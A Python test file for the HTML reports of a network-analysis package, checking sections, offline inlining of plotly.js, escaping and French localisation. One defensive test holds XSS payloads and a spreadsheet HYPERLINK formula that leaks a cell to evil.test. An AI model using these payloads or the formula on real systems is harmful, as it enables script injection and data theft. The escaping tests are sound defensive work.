"""HTML: one self-contained page, every user string escaped."""

import re

import pytest

from maillage.reports import render, render_html_report
from maillage.reports.html_page import plotly_js

SCRIPT = "<script>alert(1)</script>"


def page_without_plotly(html: str) -> str:
    """The page minus the inlined plotly.js, which holds URLs and markup of its own."""
    assert html.count(plotly_js()) <= 1
    return html.replace(plotly_js(), "")


def test_report_page_sections_and_facts(report):
    html = render("report", report, "html").decode("utf-8")
    assert html.startswith("<!DOCTYPE html>")
    assert "<title>Network report: Pays de Morlaix</title>" in html
    assert "As of 2024-06-30 · unweighted ties · exact betweenness" in html
    for anchor in ("network", "brokers", "mixing", "communities", "actors", "method"):
        assert f'<section id="{anchor}">' in html
    assert 'id="gaps"' not in html
    assert '<div class="value">0.250</div><div class="label">Density</div>' in html
    assert "4 communities, modularity 0.222." in html
    for author in ("Freeman", "Brandes", "Burt", "Gould", "Krackhardt", "Traag", "Blondel"):
        assert author in html
    assert "Leiden (modularity), igraph + leidenalg" in html


def test_plotly_js_is_inlined_once_and_nothing_is_fetched(report, gaps):
    html = render_html_report(report, gaps)
    assert html.count(plotly_js()) == 1
    rest = page_without_plotly(html)
    assert "http://" not in rest and "https://" not in rest
    assert not re.search(r"<(script|link|img|iframe)[^>]+(src|href)=\"(?!data:)", rest)
    assert "@import" not in rest and "url(" not in rest
    assert rest.count('class="plotly-graph-div"') == 4
    ids = re.findall(r'<div id="(maillage-figure-\d+)"', rest)
    assert ids == [f"maillage-figure-{i}" for i in range(1, 5)]


def test_report_with_gaps_adds_gaps_and_introductions(report, gaps):
    html = render_html_report(report, gaps)
    assert '<section id="gaps">' in html and '<section id="introductions">' in html
    assert "business × funder hangs on one bridge (Mairie de Morlaix)" in html
    assert '<span class="flag">fragile</span>' in html
    assert html.count("Sector mixing</h2>") == 1
    assert "sector-preserving rewiring" in html


def test_hostile_strings_are_escaped(hostile_report, hostile_gaps):
    hostile_report["method"]["note"] = "<b onmouseover=alert(4)>x</b>"
    html = page_without_plotly(render_html_report(hostile_report, hostile_gaps))
    assert SCRIPT not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<img" not in html
    assert "<title>Network report: &lt;img src=x onerror=alert(2)&gt;</title>" in html
    assert "&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;script&gt;alert(3)&lt;/script&gt;" in html
    assert "<b onmouseover" not in html
    # A page is no spreadsheet: the formula is shown as it is, as text.
    assert "=HYPERLINK(&quot;http://evil.test/?leak=&quot;&amp;A1,&quot;Click me&quot;)" in html
    assert '"http://evil.test/?leak="&A1' not in html
    # Names reach plotly escaped, then JSON-escaped: never a raw tag in a script.
    scripts = re.findall(r"<script>(.*?)</script>", html, flags=re.S)
    assert not any("<script" in s or "alert(1)</" in s for s in scripts)
    assert '"ticktext":["&lt;script&gt;alert(1)&lt;\\u002fscript&gt;"' in html


def test_gaps_page(gaps):
    html = render("gaps", gaps, "html").decode("utf-8")
    assert "<title>Sector gaps: Pays de Morlaix</title>" in html
    assert html.count('class="plotly-graph-div"') == 1
    assert "Association Ener&#x27;gence" in html
    assert html.count("<tr>") >= 2 + 3 + 1


def test_compare_page(compare):
    html = render("compare", compare, "html").decode("utf-8")  # the coordinator's brief
    assert '<th class="num">Pays de Morlaix</th>' in html
    assert '<td class="num">0.250</td>' in html
    assert html.count('class="plotly-graph-div"') == 3


def test_bridges_page_has_no_plotly(bridges):
    html = render("bridges", bridges, "html").decode("utf-8")
    assert plotly_js() not in html
    assert "From 2023-01-01 to 2024-06-30" in html
    assert "Coopérative Ti Kafe" in html and "Le Télégramme" in html


@pytest.mark.parametrize("kind", ["report", "gaps", "compare", "bridges"])
def test_empty_results_render(kind, report, gaps, compare, bridges):
    empty = {
        "report": {**report, "actors": [], "sector_mixing": {}},
        "gaps": {**gaps, "gaps": [], "introductions": [], "fragile_bridges": []},
        "compare": {**compare, "indicators": []},
        "bridges": {**bridges, "gained": [], "lost": []},
    }[kind]
    html = render(kind, empty, "html").decode("utf-8")
    assert html.rstrip().endswith("</html>")


def test_large_report_renders_every_actor(report):
    sectors = ["business", "association", "public", "academic", "media", "citizen", "funder"]
    template = report["actors"][0]
    report["actors"] = [
        {
            **template,
            "id": f"x{i}",
            "name": f"Acteur {i}",
            "sector": sectors[i % 7],
            "betweenness": 1 / (i + 1),
            "community": i % 12,
        }
        for i in range(600)
    ]
    html = render_html_report(report)
    assert "Show the 600 actors, by betweenness" in html
    assert html.count('<span class="name">Acteur ') == 600 + 20
    assert "Sector composition of the 12 largest communities." in html


def test_the_introductions_reasons_are_told_in_the_page_s_language(gaps):
    intro = gaps["introductions"][0]
    intro["reason"] = (
        "both work with Mairie de Morlaix; would bring 1 association closer to businesses"
    )
    intro["reason_parts"] = [
        {"template": "both work with {names}", "names": ["Mairie de Morlaix"], "limit": 2},
        {
            "template": "would bring {who} closer to {whom}",
            "who": [{"sector": "association", "count": 1}],
            "whom": "business",
        },
    ]
    english = render("gaps", gaps, "html").decode("utf-8")
    assert f"<td>{intro['reason']}</td>" in english
    french = render("gaps", gaps, "html", lang="fr").decode("utf-8")
    assert (
        "<td>travaillent tous deux avec Mairie de Morlaix\u202f; rapprocherait 1 association "
        "des entreprises</td>"
    ) in french
